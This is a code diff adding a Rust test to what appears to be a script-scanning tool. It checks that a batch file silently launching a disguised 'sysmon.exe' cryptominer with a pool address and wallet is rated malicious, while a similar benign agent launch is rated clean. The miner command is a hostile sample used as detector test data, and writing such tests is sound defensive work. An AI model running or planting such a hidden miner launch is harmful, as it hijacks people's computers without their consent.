@@ -126,3 +126,29 @@ fn the_line_gate_admits_every_line_match() {
     }
     assert!(checked > 50, "only {checked} line matches checked");
 }
+
+#[test]
+fn background_and_start_b_hide_a_miner_only() {
+    let (f, v) = both(
+        "go.bat",
+        "@echo off\nstart \"\" /b C:\\x\\sysmon.exe -o 198.51.100.3:3333 -u 41pmnqWeNug1ikEBmYhajkDoyXHMNd5nSRuAdPwsKWQSdphFyVWJQ3t76QN1Jt34YJKBdf6thxZazXGpmDVCezCzVXJinrj --background\n",
+    );
+    assert_eq!(
+        rule_class(&f, "script", "hidden_window"),
+        Some(Class::Evasion)
+    );
+    assert_eq!(
+        rule_class(&f, "script", "background_flag"),
+        Some(Class::Evasion)
+    );
+    assert_eq!(v.level, Level::Malicious);
+    let (f, v) = both(
+        "agent.bat",
+        "@echo off\nstart \"\" /b acme-agent.exe --config agent.ini --background\n",
+    );
+    assert_eq!(
+        rule_class(&f, "script", "background_flag"),
+        Some(Class::Info)
+    );
+    assert_eq!(v.level, Level::Clean);
+}
